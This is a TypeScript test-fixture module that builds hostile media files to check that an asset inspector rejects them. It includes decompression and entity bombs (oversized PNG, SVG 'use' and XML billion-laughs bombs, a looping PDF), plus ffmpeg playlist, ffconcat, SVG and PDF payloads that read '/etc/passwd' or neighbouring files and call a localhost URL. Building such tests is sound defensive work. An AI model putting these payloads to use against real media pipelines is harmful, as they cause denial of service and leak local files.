import { crc32, deflateSync } from 'node:zlib';
import type { AssetFacts } from '@vitrine/schema';

/** A file made to harm: what it calls itself, what it claims to be, and why. */
export interface Trap {
  readonly name: string;
  readonly fileName: string;
  readonly bytes: Buffer;
  /** What somebody who got past the inspector would have it taken for. */
  readonly facts: AssetFacts;
}

/** What a trap reaches for: a file beside it with words that must never come out, and an address where nobody may call. */
export interface Bait {
  readonly siblingPath: string;
  readonly port: number;
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
}

/** 30,000 × 30,000 pixels of one colour: some hundred kilobytes, three gigabytes decoded. */
function hugePng(): Buffer {
  const edge = 30_000;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(edge, 0);
  header.writeUInt32BE(edge, 4);
  header.set([8, 0], 8);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc((edge + 1) * edge), { level: 1 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function svg(inside: string, attributes = ''): Buffer {
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100"${attributes}>${inside}</svg>`,
  );
}

/** Each level shows the one below ten times: ten to the ninth squares. */
function useBomb(): Buffer {
  const levels = Array.from({ length: 9 }, (_, level) => {
    const below =
      level === 0 ? '<rect width="1" height="1"/>' : `<use xlink:href="#l${level - 1}"/>`.repeat(10);
    return `<g id="l${level}">${below}</g>`;
  });
  return svg(`<defs>${levels.join('')}</defs><use xlink:href="#l8"/>`);
}

const entityBomb = Buffer.from(
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${Array.from(
    { length: 9 },
    (_, level) => `<!ENTITY ${'bcdefghij'[level]} "${`&${'abcdefghi'[level]};`.repeat(10)}">`,
  ).join('')}]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&j;</text></svg>`,
);

/** A WAV whose header promises ten hours of sound that is not there. */
function lyingWav(): Buffer {
  const header = Buffer.alloc(44);
  header.write('RIFF', 0, 'latin1');
  header.writeUInt32LE(0x7fffffff, 4);
  header.write('WAVEfmt ', 8, 'latin1');
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20);
  header.writeUInt16LE(1, 22);
  header.writeUInt32LE(8000, 24);
  header.writeUInt32LE(16_000, 28);
  header.writeUInt16LE(2, 32);
  header.writeUInt16LE(16, 34);
  header.write('data', 36, 'latin1');
  header.writeUInt32LE(8000 * 36_000 * 2, 40);
  return Buffer.concat([header, Buffer.alloc(4000, 7)]);
}

const film: AssetFacts = { type: 'video', format: 'mp4', width: 320, height: 240, durationMs: 36_000_000 };
const sound: AssetFacts = { type: 'audio', format: 'mp3', durationMs: 36_000_000 };
const drawing: AssetFacts = { type: 'image', format: 'svg', width: 100, height: 100 };

/** Files that want to fill the memory, never end, read their neighbours or call home. */
export function makeTraps({ siblingPath, port }: Bait): Trap[] {
  const url = `http://127.0.0.1:${port}/called`;
  const playlists: readonly (readonly [string, string])[] = [
    [
      'm3u8 of a neighbour',
      `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile://${siblingPath}\n#EXT-X-ENDLIST\n`,
    ],
    ['m3u8 that calls home', `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n${url}\n#EXT-X-ENDLIST\n`],
    ['m3u8 that joins', `#EXTM3U\n#EXTINF:10,\nconcat:${url}|file://${siblingPath}\n#EXT-X-ENDLIST\n`],
    ['concat script of a neighbour', `ffconcat version 1.0\nfile '${siblingPath}'\n`],
    ['concat script of passwords', "ffconcat version 1.0\nfile '/etc/passwd'\n"],
    ['concat script that calls home', `ffconcat version 1.0\nfile '${url}'\n`],
    [
      'DASH manifest',
      `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet><Representation id="1"><BaseURL>${url}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    ],
    [
      'SDP',
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    ],
    ['subfile', `subfile,,start,0,end,100,,:${siblingPath}`],
  ];
  const drawings: readonly (readonly [string, Buffer])[] = [
    ['use bomb', useBomb()],
    ['entity bomb', entityBomb],
    ['drawing that calls home', svg(`<image href="${url}" width="100" height="100"/>`)],
    ['drawing of a neighbour', svg(`<image href="file://${siblingPath}" width="100" height="100"/>`)],
    [
      'drawing with a style from elsewhere',
      svg(`<style>@import url("${url}");</style><rect width="9" height="9"/>`),
    ],
    ['drawing of nine billion pixels', svg('<rect width="1" height="1"/>', ' viewBox="0 0 3000000 3000000"')],
    [
      'drawing with a hungry filter',
      svg(
        '<filter id="f"><feGaussianBlur stdDeviation="5000"/></filter><rect width="99" height="99" filter="url(#f)"/>'.repeat(
          20,
        ),
      ),
    ],
  ];
  return [
    ...playlists.flatMap(([name, text]): Trap[] => [
      { name: `${name}, as a film`, fileName: 'trap.mp4', bytes: Buffer.from(text), facts: film },
      { name: `${name}, as a sound`, fileName: 'trap.mp3', bytes: Buffer.from(text), facts: sound },
    ]),
    ...drawings.map(([name, bytes]): Trap => ({ name, fileName: 'trap.svg', bytes, facts: drawing })),
    {
      name: 'picture of 900 megapixels',
      fileName: 'trap.png',
      bytes: hugePng(),
      facts: { type: 'image', format: 'png', width: 30_000, height: 30_000 },
    },
    {
      name: 'ten hours of nothing',
      fileName: 'trap.wav',
      bytes: lyingWav(),
      facts: { type: 'audio', format: 'wav', durationMs: 36_000_000 },
    },
    {
      name: 'pages without end',
      fileName: 'trap.pdf',
      bytes: Buffer.from(
        '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
      ),
      facts: { type: 'document', format: 'pdf', pageCount: 20 },
    },
    {
      name: 'page of a million square metres',
      fileName: 'trap.pdf',
      bytes: Buffer.from(
        `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 2000000000 2000000000]/AA<</O<</S/URI/URI(${url})>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
      ),
      facts: { type: 'document', format: 'pdf', pageCount: 1 },
    },
  ];
}
